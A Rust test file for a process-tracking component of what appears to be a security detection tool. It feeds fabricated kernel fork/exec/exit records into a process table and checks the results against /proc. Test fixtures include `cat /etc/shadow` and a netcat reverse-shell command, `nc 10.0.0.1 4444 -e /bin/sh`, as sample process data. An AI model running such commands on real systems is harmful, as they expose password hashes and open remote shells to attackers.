//! The kernel's fork/exec/exit records applied through [`LifecycleQueue`], as the detection
//! thread does.
use super::*;
use crate::detect::process::lifecycle::{apply, LifecycleQueue};
use exporter_ebpf::{lifecycle_kind, ExecArgs, LifecycleEvent, MAX_EXEC_ARG, MAX_EXEC_ARGS, MAX_EXEC_FILENAME};

fn record(kind: u32, ktime_ns: u64, tgid: u32, comm: &str) -> LifecycleEvent {
    let mut r = LifecycleEvent {
        ktime_ns,
        cgroup_id: 1,
        kind,
        tgid,
        tid: tgid,
        child: 0,
        uid: 0,
        gid: 0,
        start_boottime_ns: 0,
        cap_effective: 0,
        cap_permitted: 0,
        vpid: 0,
        filename_len: 0,
        clone_flags: 0,
        comm: [0; 16],
        filename: [0; MAX_EXEC_FILENAME],
        argv: ExecArgs { argc: 0, _pad: 0, args: [[0; MAX_EXEC_ARG]; MAX_EXEC_ARGS] },
    };
    r.comm[..comm.len()].copy_from_slice(comm.as_bytes());
    r
}

fn fork(t: u64, parent: u32, child: u32, comm: &str) -> LifecycleEvent {
    LifecycleEvent { child, ..record(lifecycle_kind::FORK, t, parent, comm) }
}

fn exec(t: u64, pid: u32, filename: &str, comm: &str) -> LifecycleEvent {
    let mut r = record(lifecycle_kind::EXEC, t, pid, comm);
    r.filename[..filename.len()].copy_from_slice(filename.as_bytes());
    r.filename_len = filename.len() as i32 + 1;
    r
}

fn exec_args(t: u64, pid: u32, filename: &str, comm: &str, argv: &[&str]) -> LifecycleEvent {
    let mut r = exec(t, pid, filename, comm);
    for (slot, arg) in r.argv.args.iter_mut().zip(argv) {
        slot[..arg.len()].copy_from_slice(arg.as_bytes());
    }
    r.argv.argc = argv.len() as u32;
    r
}

fn exit(t: u64, pid: u32) -> LifecycleEvent {
    record(lifecycle_kind::EXIT, t, pid, "")
}

fn queue(records: &[LifecycleEvent]) -> LifecycleQueue {
    let mut q = LifecycleQueue::default();
    q.refill(|v| {
        v.extend_from_slice(records);
        records.len()
    });
    q
}

fn bash_50(fp: &FakeProc) {
    fp.add(&P { argv: &["bash", "-i"], exe: "/usr/bin/bash", cwd: "/home/u", uid: 1000, ..P::new(50, 1, "bash", 7) });
}

#[test]
fn a_process_gone_before_user_space_looked_is_known_from_its_records_then_removed() {
    let fp = FakeProc::new();
    bash_50(&fp);
    let mut t = fp.table(16).with_exit_grace(Duration::from_millis(50));
    loaded(&mut t, 50);
    // Child 51 never appears in /proc: `sh -c 'exec /bin/true'` is over in milliseconds.
    let mut q = queue(&[
        fork(10, 50, 51, "bash"),
        exec(20, 51, "/bin/sh", "sh"),
        exec_args(30, 51, "/bin/true", "true", &["true", "--version"]),
        exit(40, 51),
    ]);
    // A syscall event of the child at t=15 sees the fork: the parent's data, the parent as ppid.
    q.apply_until(&mut t, 15);
    let c = t.get(51).expect("forked child").clone();
    assert_eq!((c.ppid, c.comm.as_str(), c.cwd.as_str(), c.uid, c.origin), (50, "bash", "/home/u", 1000, Origin::Fork));
    // A successful execve's own event (stamped at entry, t=17) sees the image it exec'd.
    q.apply_through_exec(&mut t, 51, 17);
    q.apply_until(&mut t, 17);
    assert_eq!(t.get(51).map(|p| (p.comm.as_str(), p.exepath.as_str())), Some(("sh", "/bin/sh")));
    // So does the second execve's (entered at t=25, after the shell's exec record): its own
    // record is the first exec at or after its entry, not the shell's.
    q.apply_through_exec(&mut t, 51, 25);
    q.apply_until(&mut t, 25);
    assert_eq!(t.get(51).map(|p| (p.comm.as_str(), p.exepath.as_str())), Some(("true", "/bin/true")));
    q.apply_until(&mut t, 35);
    let c = t.get(51).expect("exec'd child").clone();
    assert_eq!(
        (c.comm.as_str(), c.exe.as_str(), c.exepath.as_str(), c.ppid, c.cwd.as_str(), c.exited),
        ("true", "true", "/bin/true", 50, "/home/u", false)
    );
    assert_eq!((c.args.as_slice(), c.cmdline.as_str()), (&["--version".to_owned()][..], "true --version"));
    let (mut proc, mut user) = (Process::default(), User::default());
    assert!(t.fill_event_process(51, &mut proc, &mut user));
    assert_eq!((proc.ancestors[0].pid, proc.ancestors[0].name.as_str()), (50, "bash"));
    // Exit: marked at once, gone after the grace.
    q.apply_until(&mut t, u64::MAX);
    assert!(q.is_empty());
    assert!(t.get(51).expect("within the grace").exited);
    t.expire(Instant::now() + Duration::from_secs(1));
    assert!(t.get(51).is_none());
    assert!(t.get(50).is_some(), "the parent stays");
}

#[test]
fn exec_reads_proc_right_away() {
    let fp = FakeProc::new();
    bash_50(&fp);
    let mut t = fp.table(16);
    fp.add(&P { argv: &["cat", "/etc/shadow"], exe: "/usr/bin/cat", cwd: "/etc", ..P::new(52, 50, "cat", 8) });
    apply(&mut t, &fork(1, 50, 52, "bash"), false);
    apply(&mut t, &exec(2, 52, "/usr/bin/cat", "cat"), false);
    let c = t.get(52).expect("cat").clone();
    assert_eq!((c.cmdline.as_str(), c.cwd.as_str(), c.origin), ("cat /etc/shadow", "/etc", Origin::Proc));
    // busybox's applets: /proc's executable is the binary a symlink leads to, the exec's
    // path is the one it named (relative ones made absolute against the cwd).
    fp.add(&P { argv: &["ls", "-l"], exe: "/bin/busybox", cwd: "/srv", ..P::new(53, 50, "ls", 9) });
    apply(&mut t, &fork(3, 50, 53, "bash"), false);
    apply(&mut t, &exec(4, 53, "../bin/ls", "ls"), false);
    let c = t.get(53).expect("ls").clone();
    assert_eq!((c.exepath.as_str(), c.exec_path.as_str()), ("/bin/busybox", "/bin/ls"));
}

#[test]
fn an_exec_applied_after_the_next_one_takes_the_record_not_proc() {
    let fp = FakeProc::new();
    bash_50(&fp);
    let mut t = fp.table(16);
    // `nc 10.0.0.1 4444 -e /bin/sh`: by the time nc's exec record is applied, nc has exec'd
    // the shell, and /proc shows that.
    fp.add(&P { argv: &["sh"], exe: "/bin/sh", cwd: "/srv", ..P::new(53, 50, "sh", 8) });
    apply(&mut t, &fork(1, 50, 53, "bash"), false);
    apply(&mut t, &exec_args(2, 53, "/bin/nc", "nc", &["nc", "10.0.0.1", "4444", "-e", "/bin/sh"]), false);
    let c = t.get(53).expect("nc").clone();
    assert_eq!(
        (c.comm.as_str(), c.exepath.as_str(), c.exec_path.as_str(), c.cmdline.as_str(), c.origin),
        ("nc", "/bin/nc", "/bin/nc", "nc 10.0.0.1 4444 -e /bin/sh", Origin::Exec)
    );
    // Then the shell's own record: /proc agrees with it, and is taken.
    apply(&mut t, &exec_args(3, 53, "/bin/sh", "sh", &["sh"]), false);
    let c = t.get(53).expect("sh").clone();
    assert_eq!((c.comm.as_str(), c.cwd.as_str(), c.origin), ("sh", "/srv", Origin::Proc));
}

#[test]
fn a_process_that_renamed_itself_or_rewrote_its_arguments_is_still_read_from_proc() {
    let fp = FakeProc::new();
    bash_50(&fp);
    let mut t = fp.table(16);
    // runc's init renames itself after its exec; its arguments stay.
    fp.add(&P { argv: &["runc", "init"], exe: "/usr/sbin/runc", ..P::new(54, 50, "runc:[2:INIT]", 8) });
    apply(&mut t, &fork(1, 50, 54, "bash"), false);
    apply(&mut t, &exec_args(2, 54, "/proc/self/exe", "runc", &["runc", "init"]), false);
    assert_eq!(t.get(54).map(|p| (p.exepath.as_str(), p.origin)), Some(("/usr/sbin/runc", Origin::Proc)));
    // nginx rewrites its arguments; its name stays.
    fp.add(&P { argv: &["nginx: master process"], exe: "/usr/sbin/nginx", ..P::new(55, 50, "nginx", 8) });
    apply(&mut t, &fork(3, 50, 55, "bash"), false);
    apply(&mut t, &exec_args(4, 55, "/usr/sbin/nginx", "nginx", &["nginx", "-g", "daemon off;"]), false);
    assert_eq!(t.get(55).map(|p| p.origin), Some(Origin::Proc));
}

#[test]
fn a_comm_seen_at_a_syscall_renames_the_entry_and_checks_proc_once() {
    let fp = FakeProc::new();
    bash_50(&fp);
    let mut t = fp.table(16);
    // runc's init: exec'd as "exe", renamed itself; by now /proc shows its next image.
    apply(&mut t, &fork(1, 50, 61, "bash"), false);
    apply(&mut t, &exec(2, 61, "/proc/self/exe", "exe"), false);
    fp.add(&P { argv: &["sh"], exe: "/bin/sh", ..P::new(61, 50, "sh", 9) });
    t.observe_comm(61, "runc:[2:INIT]", true);
    let p = t.get(61).expect("61").clone();
    // It executed itself again: its image is its creator's executable (here bash's).
    assert_eq!((p.comm.as_str(), p.ppid, p.exepath.as_str()), ("runc:[2:INIT]", 50, "/usr/bin/bash"));
    // /proc agrees with the kernel (an exec record was lost): /proc is taken whole.
    t.observe_comm(61, "sh", true);
    assert_eq!(t.get(61).map(|p| (p.comm.as_str(), p.origin)), Some(("sh", Origin::Proc)));
    // Gone from /proc: the entry stays, renamed.
    fp.remove(61);
    t.observe_comm(61, "sleep", false);
    assert_eq!(t.get(61).map(|p| (p.comm.as_str(), p.cmdline.as_str())), Some(("sleep", "sleep")));
}

#[test]
fn a_reused_pid_after_an_exit_record_is_a_new_process() {
    let fp = FakeProc::new();
    bash_50(&fp);
    fp.add(&P { argv: &["python3"], exe: "/usr/bin/python3", cwd: "/srv", ..P::new(60, 1, "python3", 3) });
    let mut t = fp.table(16);
    // Both incarnations of 77 are gone from /proc: neither start time is known.
    apply(&mut t, &fork(1, 50, 77, "bash"), false);
    apply(&mut t, &exec(2, 77, "/bin/old", "old"), false);
    apply(&mut t, &exit(3, 77), false);
    apply(&mut t, &fork(4, 60, 77, "python3"), false);
    let p = t.get(77).expect("new 77").clone();
    assert_eq!((p.ppid, p.comm.as_str(), p.cwd.as_str(), p.exited), (60, "python3", "/srv", false));
    // With start times from /proc, the old incarnation stays reachable for its grace.
    fp.add(&P::new(78, 50, "bash", 20));
    apply(&mut t, &fork(5, 50, 78, "bash"), false);
    apply(&mut t, &exit(6, 78), false);
    fp.remove(78);
    fp.add(&P::new(78, 60, "python3", 30));
    apply(&mut t, &fork(7, 60, 78, "python3"), false);
    assert_eq!(t.get(78).map(|p| (p.start_time, p.ppid, p.exited)), Some((Some(30), 60, false)));
    assert_eq!(t.get_exact(78, 20).map(|p| (p.ppid, p.exited)), Some((50, true)));
}

#[test]
fn clone_parent_makes_a_sibling_and_records_are_applied_in_time_order() {
    let fp = FakeProc::new();
    bash_50(&fp);
    let mut t = fp.table(16);
    // Ring order 2, 1: the queue sorts by time, so the fork precedes its child's records.
    let mut q = queue(&[exec(2, 90, "/usr/bin/id", "id"), fork(1, 50, 90, "bash")]);
    q.apply_until(&mut t, u64::MAX);
    assert_eq!(t.get(90).map(|p| (p.ppid, p.comm.as_str())), Some((50, "id")));
    // runc's nsexec: clone(CLONE_PARENT) from 90 gives a child of 50 with 90's data.
    let sibling = LifecycleEvent { clone_flags: 0x8000, ..fork(3, 90, 91, "id") };
    apply(&mut t, &sibling, false);
    assert_eq!(t.get(91).map(|p| (p.ppid, p.comm.as_str())), Some((50, "id")));
    // An exec record not in this batch was applied with an earlier one: nothing happens.
    let mut q = queue(&[exit(9, 91)]);
    q.apply_through_exec(&mut t, 91, 0);
    assert!(!q.is_empty());
    assert!(!t.get(91).expect("91").exited);
}

/// runc's init execs `/proc/self/exe` (runc), makes its mounts, then re-executes itself from a
/// cloned binary a moment later. Applied after that, its first exec would read the clone's image
/// from /proc (another executable, the same name and arguments as far as the record tells):
/// with the later exec record in hand, the first is taken from its record.
#[test]
fn an_exec_with_a_later_exec_in_the_batch_is_not_read_from_proc() {
    let fp = FakeProc::new();
    fp.add(&P { argv: &["runc", "run"], exe: "/usr/sbin/runc", ..P::new(60, 1, "runc", 7) });
    let mut t = fp.table(16);
    loaded(&mut t, 60);
    fp.add(&P { argv: &["runc", "init"], exe: "/", ..P::new(61, 60, "runc", 8) });
    let mut q = queue(&[
        fork(10, 60, 61, "runc"),
        exec_args(20, 61, "/proc/self/exe", "exe", &["runc", "init"]),
        exec_args(30, 61, "", "runc", &["runc", "init"]),
    ]);
    q.apply_until(&mut t, 25);
    let c = t.get(61).expect("runc init").clone();
    assert_eq!((c.comm.as_str(), c.exepath.as_str(), c.origin), ("exe", "/usr/sbin/runc", Origin::Exec));
    // The last exec of the batch is read from /proc as usual.
    q.apply_until(&mut t, 35);
    let c = t.get(61).expect("runc init").clone();
    assert_eq!((c.exepath.as_str(), c.origin), ("/", Origin::Proc));
}
